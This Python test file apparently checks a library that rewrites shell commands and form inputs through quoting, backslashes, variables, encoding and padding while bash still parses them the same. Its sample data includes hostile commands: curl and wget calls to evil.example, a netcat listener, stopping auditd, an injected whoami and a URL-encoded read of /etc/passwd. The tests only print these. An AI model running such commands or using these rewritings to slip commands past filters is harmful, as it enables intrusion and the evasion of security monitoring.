"""A shell runs the same words, before and after: bash itself says so."""

from __future__ import annotations

import shlex
import subprocess
from urllib.parse import unquote

import pytest

from sftsec_robust.attacks import padding, shell
from tests.plugins.robust.asking import Rewrite, draws

# Only printed: `set -n`-safe words that name no file of this machine.
COMMANDS = (
    "curl -s evil.example/install.sh",
    "zcat archive 'two words' \"and more\" tail",
    "wget -qO- evil.example:8080/x",
    "netcat -lvp 4444",
)
WORDWISE = (shell.shell_quotes, shell.shell_backslashes, shell.shell_variables, shell.shell_blanks)


def words(command: str) -> list[str]:
    """What bash passes to a program for these words; `printf` alone is run."""
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-c", f"printf '%s\\n' {command}"],
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.splitlines()


class TestWords:
    @pytest.mark.parametrize("rewrite", WORDWISE)
    @pytest.mark.parametrize("command", COMMANDS)
    def test_bash_reads_the_same(self, rewrite: Rewrite, command: str) -> None:
        made = set(draws(rewrite, command, "shell", 6, twice=True))
        assert any(text != command for text in made)
        # one process for all: each rewriting on a line of its own behind a marker
        script = "; ".join(f"printf '%s\\n' MARK {text}" for text in sorted(made))
        told = subprocess.run(
            ["bash", "--noprofile", "--norc", "-c", script],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.split("MARK\n")[1:]
        assert {tuple(each.splitlines()) for each in told} == {tuple(words(command))}

    @pytest.mark.parametrize("rewrite", [shell.shell_quotes, shell.shell_backslashes])
    def test_shlex_reads_the_same(self, rewrite: Rewrite) -> None:
        command = "sudo systemctl stop auditd"
        made = list(draws(rewrite, command, "shell"))
        assert command not in made
        assert {tuple(shlex.split(text)) for text in made} == {tuple(command.split())}

    @pytest.mark.parametrize("rewrite", WORDWISE)
    @pytest.mark.parametrize(
        "command",
        [
            "if true; then echo; fi",
            "for name in one",
            "value=$(date)",
            "[[ one == two ]]",
            "cat <<END",
            "echo 'never ends",
        ],
    )
    def test_syntax_stays_as_it_is(self, rewrite: Rewrite, command: str) -> None:
        reserved = ("if ", "then ", "fi", "for name in ", "value=", "[[", "<<END", "'never ends")
        kept = [word for word in reserved if word in command]
        for text in draws(rewrite, command, "shell"):
            read = " ".join(text.split())
            assert all(word.strip() in read for word in kept), text

    def test_injected_quote_is_closed_first(self) -> None:
        made = set(draws(shell.shell_quotes, '"; whoami; date #', "shell"))
        assert all(text.startswith('"; ') for text in made)
        assert len(made) > 1


class TestForm:
    @pytest.mark.parametrize("rewrite", [shell.form_encoding, shell.form_decoding])
    def test_server_decodes_the_same(self, rewrite: Rewrite) -> None:
        text = "%3Bcat%20/etc/passwd%26id=1"
        made = set(draws(rewrite, text, "form", twice=True))
        assert len(made) > 1
        assert {unquote(each) for each in made} == {unquote(text)}

    def test_padding_is_a_parameter_beside(self) -> None:
        for text in draws(padding.pad_form, "id=1;date", "form"):
            assert "id=1;date" in text.split("&")
            assert text.count("&") == 1


class TestNoOperation:
    def test_bash_prints_the_same(self) -> None:
        command = "printf one; printf two"
        made = set(draws(padding.pad_shell, command, "shell", 8, twice=True))
        script = "; echo; ".join(sorted(made))
        told = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True)
        assert set(told.stdout.splitlines()) == {"onetwo"}
        assert command not in made

    def test_no_command_follows_a_keyword(self) -> None:
        command = "if true; then :; fi"
        for text in draws(padding.pad_shell, command, "shell"):
            assert "true; then" in text
